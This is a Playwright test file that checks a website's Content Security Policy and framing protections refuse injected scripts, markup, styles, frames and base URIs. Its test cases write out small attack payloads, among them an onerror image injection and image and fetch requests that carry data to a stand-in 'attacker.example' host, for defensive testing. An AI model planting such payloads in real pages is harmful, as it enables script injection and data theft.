import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { expect, type Page, test } from "playwright/test";

/** Attacks from within a page. The browser must refuse each. */
const attacks: { name: string; directive: string; path?: string; attack: () => void }[] = [
  {
    name: "a script in the page",
    directive: "require-trusted-types-for",
    attack: () => {
      const script = document.createElement("script");
      script.append("document.title = 'taken'");
      document.body.append(script);
    },
  },
  {
    name: "a script from another host",
    directive: "require-trusted-types-for",
    attack: () => {
      document.createElement("script").src = "https://attacker.example/a.js";
    },
  },
  {
    name: "markup made of text",
    directive: "require-trusted-types-for",
    attack: () => {
      document.body.innerHTML = "<img src=x onerror=\"document.title='taken'\">";
    },
  },
  {
    name: "a handler in an attribute",
    directive: "require-trusted-types-for",
    attack: () => document.body.setAttribute("onclick", "document.title = 'taken'"),
  },
  {
    name: "code made of text",
    directive: "require-trusted-types-for",
    attack: () => globalThis.setTimeout("document.title = 'taken'"),
  },
  {
    name: "a policy of its own for trusted text",
    directive: "trusted-types",
    attack: () =>
      void globalThis.trustedTypes?.createPolicy("attacker", {
        createScriptURL: (address) => address,
      }),
  },
  {
    name: "styles in the page",
    directive: "style-src-elem",
    attack: () => {
      const style = document.createElement("style");
      style.append("body { display: none }");
      document.head.append(style);
    },
  },
  {
    name: "styles in an attribute",
    directive: "style-src-attr",
    attack: () => document.body.setAttribute("style", "display: none"),
  },
  {
    name: "a picture that carries data out",
    directive: "img-src",
    attack: () => {
      new Image().src = "https://attacker.example/?secret";
    },
  },
  {
    name: "a request that carries data out",
    directive: "connect-src",
    attack: () => void fetch("https://attacker.example/").catch(() => undefined),
  },
  {
    name: "a frame of another host",
    directive: "frame-src",
    attack: () =>
      document.body.append(
        Object.assign(document.createElement("iframe"), { src: "https://attacker.example/" }),
      ),
  },
  {
    name: "the map's host on a page without the map",
    directive: "frame-src",
    path: "/about",
    attack: () =>
      document.body.append(
        Object.assign(document.createElement("iframe"), { src: "https://www.google.com/maps" }),
      ),
  },
  {
    name: "another base for links",
    directive: "base-uri",
    attack: () =>
      document.head.append(
        Object.assign(document.createElement("base"), { href: "https://attacker.example/" }),
      ),
  },
];

/** The directives that refused something on the page since it was opened. */
async function refusedBy(page: Page, attack: () => void): Promise<string[]> {
  await page.evaluate(() => {
    const refused: string[] = [];
    Object.assign(globalThis, { refused });
    addEventListener("securitypolicyviolation", ({ effectiveDirective, disposition }) =>
      refused.push(`${effectiveDirective} ${disposition}`),
    );
  });
  // Trusted Types refuse by an exception, the rest by doing nothing.
  await page.evaluate(attack).catch(() => undefined);
  const read = () => page.evaluate(() => (globalThis as unknown as { refused: string[] }).refused);
  await expect.poll(read).not.toEqual([]);
  return read();
}

test.use({ baseURL: process.env["SITE_ADDRESS"] });

for (const { name, directive, path = "/", attack } of attacks) {
  test(`${name} is refused`, { tag: "@long" }, async ({ page }) => {
    await page.route(
      (url) => !url.href.startsWith(process.env["SITE_ADDRESS"] ?? ""),
      (route) => route.abort(),
    );
    await page.goto(path);
    const title = await page.title();
    expect(await refusedBy(page, attack)).toEqual([`${directive} enforce`]);
    expect(await page.title()).toBe(title);
    await expect(page.getByRole("main")).toBeVisible();
  });
}

test("no page can be framed, not even the 404 page", { tag: "@long" }, async ({ page }) => {
  const site = process.env["SITE_ADDRESS"] ?? "";
  const frames = ["/", "/about", "/no-such-page"]
    .map((path) => `<iframe src="${site}${path}"></iframe>`)
    .join("");
  const other = createServer((_, response) =>
    response.setHeader("Content-Type", "text/html").end(frames),
  );
  await new Promise<void>((listening) => other.listen(0, "127.0.0.1", listening));
  try {
    await page.goto(`http://127.0.0.1:${(other.address() as AddressInfo).port}/`);
    for (const frame of page.frames().slice(1))
      expect(await frame.getByRole("main").count()).toBe(0);
    expect(page.frames()).toHaveLength(4);
  } finally {
    other.closeAllConnections();
    other.close();
  }
});
